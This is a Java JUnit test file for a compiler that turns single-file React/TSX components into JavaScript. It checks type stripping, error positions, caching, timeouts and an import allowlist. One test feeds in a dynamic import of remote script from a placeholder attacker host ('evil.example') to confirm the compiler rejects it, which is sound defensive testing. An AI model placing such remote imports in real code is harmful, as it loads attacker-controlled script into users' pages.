package dev.vitrine.frame;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

class ComponentCompilerTest {
    static final Set<String> IMPORTABLE = Set.of("react", "react/jsx-runtime", "react-dom/client", "recharts", "lucide-react");
    private static final String SMALL = "export default function App() { return <p>hi</p>; }\n";

    private static ComponentCompiler compiler;

    @BeforeAll
    static void startCompiler() {
        compiler = ComponentCompiler.create(new CompilerSettings(2, Duration.ofSeconds(60), 100, IMPORTABLE));
    }

    @AfterAll
    static void closeCompiler() {
        compiler.close();
    }

    static String dashboard() {
        try (InputStream in = ComponentCompilerTest.class.getClassLoader().getResourceAsStream(ComponentCompiler.SAMPLE_RESOURCE)) {
            assertNotNull(in, ComponentCompiler.SAMPLE_RESOURCE + " is not on the test class path");
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    private static InvalidArtifactException rejected(String source) {
        return assertThrows(InvalidArtifactException.class, () -> compiler.compile(source));
    }

    @Test
    void dashboardCompilesToJavaScriptWithoutJsxAndKeepsItsImports() {
        CompiledComponent component = compiler.compile(dashboard());
        String js = component.javascript();
        assertFalse(js.contains("<div") || js.contains("</") || js.contains("className=\""), js);
        assertTrue(js.contains("from \"react/jsx-runtime\""), js);
        assertTrue(js.contains("from 'recharts'") && js.contains("from 'lucide-react'") && js.contains("from 'react'"), js);
        assertTrue(js.contains("export default function Dashboard()"), js);
        assertEquals(List.of("react/jsx-runtime", "react", "recharts", "lucide-react"), component.imports());
    }

    @Test
    void typeScriptTypesAreStripped() {
        String js = compiler.compile("""
                import { useState } from 'react';
                interface Props { title: string; count?: number }
                type Mode = 'a' | 'b';
                export default function Card({ title }: Props): JSX.Element {
                  const [mode, setMode] = useState<Mode>('a');
                  const n = (title as string).length satisfies number;
                  return <h1 onClick={() => setMode('b')}>{title}{mode}{n}</h1>;
                }
                """).javascript();
        assertFalse(js.contains("interface") || js.contains("type Mode") || js.contains(": Props")
                || js.contains("<Mode>") || js.contains(" as string") || js.contains("satisfies"), js);
        assertTrue(js.contains("useState('a')"), js);
    }

    @Test
    void syntaxErrorReportsItsLineAndColumn() {
        InvalidArtifactException e = rejected("""
                export default function App() {
                  const items = [1, 2;
                  return <ul />;
                }
                """);
        assertEquals("compile_error", e.code());
        assertEquals(new SourcePosition(2, 22), e.position().orElseThrow());
        assertTrue(e.getMessage().contains("(line 2, column 22)"), e.getMessage());
        assertTrue(e.getMessage().startsWith("Unexpected token"), e.getMessage());
    }

    @Test
    void unknownImportIsRejectedNamingTheModuleItsPlaceAndWhatCanBeImported() {
        InvalidArtifactException e = rejected("""
                import { useState } from 'react';
                import _ from 'lodash';
                export default function App() { return <p>{_.now()}{String(useState)}</p>; }
                """);
        assertEquals("unknown_import", e.code());
        assertEquals(new SourcePosition(2, 15), e.position().orElseThrow());
        assertEquals("cannot import 'lodash' (line 2, column 15): an artifact can import only "
                + "lucide-react, react, react-dom/client, react/jsx-runtime, recharts", e.getMessage());
    }

    @Test
    void relativeImportIsRejectedBecauseAnArtifactIsOneFile() {
        InvalidArtifactException e = rejected("""
                import { Chart } from './chart';
                export default function App() { return <Chart />; }
                """);
        assertEquals("unknown_import", e.code());
        assertEquals(new SourcePosition(1, 23), e.position().orElseThrow());
        assertTrue(e.getMessage().startsWith("cannot import './chart' (line 1, column 23): an artifact is a single file"), e.getMessage());
        assertTrue(e.getMessage().endsWith("react/jsx-runtime, recharts"), e.getMessage());
    }

    @Test
    void dynamicImportsAreCheckedLikeStaticOnes() {
        CompiledComponent component = compiler.compile("""
                export default function App() { import('recharts'); return null; }
                """);
        assertEquals(List.of("recharts"), component.imports());
        InvalidArtifactException unknown = rejected("""
                export default function App() { import("https://evil.example/x.js"); return null; }
                """);
        assertEquals("unknown_import", unknown.code());
        assertTrue(unknown.getMessage().startsWith("cannot import 'https://evil.example/x.js' (line 1, column 40)"), unknown.getMessage());
        InvalidArtifactException computed = rejected("""
                const name = 'rec' + 'harts';
                export default function App() { import(name); return null; }
                """);
        assertEquals("unknown_import", computed.code());
        assertEquals(new SourcePosition(2, 33), computed.position().orElseThrow());
    }

    @Test
    void importsUsedOnlyAsTypesAreRemovedAndNotChecked() {
        CompiledComponent component = compiler.compile("""
                import type { Props } from 'some-types';
                import { Shape } from 'more-types';
                let shape: Shape;
                export default function App(props: Props) { return <p>{String(shape)}</p>; }
                """);
        assertEquals(List.of("react/jsx-runtime"), component.imports());
    }

    @Test
    void componentWithoutDefaultExportIsRejected() {
        InvalidArtifactException e = rejected("export function App() { return <p>hi</p>; }\n");
        assertEquals("missing_default_export", e.code());
        assertEquals("the component needs a default export, e.g. export default function App() {...}", e.getMessage());
        assertTrue(e.position().isEmpty());
        assertEquals(List.of("react/jsx-runtime"), compiler.compile("function App() { return <p/>; }\nexport { App as default };\n").imports());
    }

    @Test
    void runawayCompileIsStoppedAndTheCompilerKeepsWorking() {
        StringBuilder huge = new StringBuilder();
        for (int i = 0; i < 1_000; i++) {
            huge.append("export function Part").append(i).append("({ n }: { n: number }) { return <div className=\"p-2\">{n * ")
                    .append(i).append("}</div>; }\n");
        }
        huge.append(SMALL);
        InvalidArtifactException e = assertThrows(InvalidArtifactException.class,
                () -> compiler.compile(huge.toString(), Duration.ofMillis(1)));
        assertEquals("compile_timeout", e.code());
        assertEquals("compiling the component took longer than 1 ms and was stopped", e.getMessage());
        for (int i = 0; i < 3; i++) {
            assertTrue(compiler.compile(SMALL + "// after the timeout " + i).javascript().contains("_jsx"));
        }
        // A timeout is not cached: the same source compiles once it is given time.
        assertTrue(compiler.compile(huge.toString()).javascript().contains("function Part999"));
    }

    @Test
    void sameSourceTwiceIsServedFromTheCache() {
        String source = SMALL + "// cached\n";
        long hits = compiler.cacheStats().hitCount();
        assertSame(compiler.compile(source), compiler.compile(source));
        assertEquals(hits + 1, compiler.cacheStats().hitCount());
    }

    @Test
    void aCachedRejectionIsThrownAgainAsAFreshException() {
        String source = "export default function App() { return <p>; }\n";
        long hits = compiler.cacheStats().hitCount();
        InvalidArtifactException first = rejected(source);
        InvalidArtifactException second = rejected(source);
        assertEquals(hits + 1, compiler.cacheStats().hitCount());
        assertEquals(first.getMessage(), second.getMessage());
        assertEquals(first.position(), second.position());
        assertFalse(first == second);
    }

    @Test
    void concurrentCompilesFromSeveralThreadsAllSucceed() throws Exception {
        String dashboard = dashboard();
        String expected = compiler.compile(dashboard).javascript();
        ExecutorService threads = Executors.newFixedThreadPool(4);
        try {
            List<Future<String>> results = new ArrayList<>();
            for (int i = 0; i < 8; i++) {
                String comment = "\n// copy " + i + "\n";
                results.add(threads.submit(() -> compiler.compile(dashboard + comment).javascript()));
            }
            for (int i = 0; i < results.size(); i++) {
                assertEquals(expected + "\n// copy " + i + "\n", results.get(i).get(120, TimeUnit.SECONDS));
            }
        } finally {
            threads.shutdownNow();
        }
    }

    @Test
    void deeplyNestedInputIsRejectedInsteadOfCrashingTheCompiler() {
        InvalidArtifactException e = rejected("export default () => " + "(".repeat(50_000) + "1" + ")".repeat(50_000) + ";\n");
        assertEquals("compile_error", e.code());
        assertEquals(List.of("react/jsx-runtime"), compiler.compile(SMALL + "// after the deep one").imports());
    }

    @Test
    void warmUpCompilesTheSampleInTheBackgroundAndCountsItsCompiles() throws Exception {
        ExecutorService background = Executors.newSingleThreadExecutor();
        try {
            assertEquals(2, compiler.warmUp(2, background).get(120, TimeUnit.SECONDS));
            assertEquals(0, compiler.warmUp(0, background).get(120, TimeUnit.SECONDS));
        } finally {
            background.shutdownNow();
        }
    }

    @Test
    void runtimeNameSaysWhetherTheJitIsThere() {
        assertEquals(!"Interpreted".equals(compiler.runtimeName()), compiler.optimizing());
    }

    @Test
    void settingsRequireTheJsxRuntimeAndBareSpecifiers() {
        IllegalArgumentException noRuntime = assertThrows(IllegalArgumentException.class,
                () -> CompilerSettings.defaults(Set.of("react")));
        assertTrue(noRuntime.getMessage().contains("react/jsx-runtime"), noRuntime.getMessage());
        IllegalArgumentException relative = assertThrows(IllegalArgumentException.class,
                () -> CompilerSettings.defaults(Set.of("react/jsx-runtime", "./x")));
        assertTrue(relative.getMessage().contains("'./x'"), relative.getMessage());
        assertThrows(IllegalArgumentException.class, () -> new CompilerSettings(0, Duration.ofSeconds(1), 1, IMPORTABLE));
        assertThrows(IllegalArgumentException.class, () -> new CompilerSettings(1, Duration.ZERO, 1, IMPORTABLE));
    }

    @Test
    void specifiersShownInMessagesAreShortenedAndEscaped() {
        assertEquals("'a\\u000ab\\u0027'", ComponentRules.quoted("a\nb'"));
        assertEquals(82 + 1, ComponentRules.quoted("x".repeat(500)).length());
    }
}
